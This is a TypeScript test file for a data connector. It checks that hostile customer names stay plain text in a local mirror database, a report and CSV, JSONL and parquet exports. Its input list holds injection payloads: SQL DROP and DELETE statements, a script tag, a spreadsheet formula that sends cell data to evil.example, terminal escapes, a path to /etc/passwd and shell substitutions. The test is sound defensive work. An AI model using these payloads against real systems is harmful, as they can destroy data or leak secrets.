import { expect, test } from "vitest";
import { declaration } from "../../connectors/fintoro/declaration.ts";
import type { Mirror } from "../../src/state/mirror.ts";
import { duckRows, exportOf } from "../support/export/export.ts";
import { jsonLines } from "../support/program/cli.ts";
import { publish, reading, rowsOf } from "../support/export/published.ts";
import { openShop } from "../support/mirror/mirror.ts";
import { putAs, rows } from "../support/mirror/store.ts";

/** What a customer of the company may be called. */
const names = [
  `'); DROP TABLE invoices; --`,
  `"; DELETE FROM clients; --`,
  `<script>alert(1)</script>`,
  `=HYPERLINK("https://evil.example/"&A1)`,
  `\u001b[2J\u001b]0;title\u0007`,
  `../../etc/passwd`,
  `\${env:FINTORO_TOKEN} $(id) \`id\``,
  `a\u0000b\r\nc`,
];
const key = `x"); DROP TABLE invoices; --`;

async function hostileMirror(): Promise<Mirror> {
  const mirror = await openShop({ declaration });
  for (const [i, name] of names.entries())
    putAs(mirror, "clients", i + 1, JSON.stringify({ id: i + 1, name, [key]: name }));
  const invoice = { id: 1, number: names[0], clientId: 1, items: [{ id: 1, name: key }] };
  putAs(mirror, "invoices", 1, JSON.stringify(invoice));
  return mirror;
}

const inOrder = "SELECT id, name FROM clients ORDER BY id";

// Fault: data | names and field names that are SQL, HTML, formulas, terminal escapes, paths and shell | records of the service, through mirror, report and every export | text everywhere: nothing of it is executed, and only CSV puts an apostrophe before a formula
test("whatever a customer is called, it is text: in the mirror, the report and every export", async () => {
  const mirror = await hostileMirror();
  const expected = names.map((name, i) => ({ id: i + 1, name }));
  const added = "SELECT name FROM pragma_table_info('clients') WHERE name LIKE 'x%'";
  const column = String(rows(mirror, added)[0]?.["name"]);
  expect(column).toMatch(/^[a-z0-9_]+$/);
  expect(rows(mirror, inOrder)).toEqual(expected);
  const named = names.map((name) => ({ name }));
  expect(rows(mirror, `SELECT ${column} AS name FROM clients ORDER BY id`)).toEqual(named);
  expect(rows(mirror, "SELECT count(*) AS n FROM invoices")).toEqual([{ n: 1 }]);
  expect(rowsOf(reading((await publish(mirror)).file), inOrder)).toEqual(expected);
  const { out } = await exportOf(mirror, { format: "parquet", tables: ["clients"] });
  const inParquet = await duckRows(`SELECT name FROM '${out}/acme/clients.parquet' ORDER BY id`);
  expect(inParquet).toEqual(names.map((name) => [name]));
  const jsonl = (await exportOf(mirror, { format: "jsonl", tables: ["clients"] })).text("clients.jsonl");
  expect(jsonLines(jsonl).map(({ name }) => name)).toEqual(names);
  const csv = (await exportOf(mirror, { tables: ["clients"] })).text("clients.csv");
  expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/""&A1)"`);
});
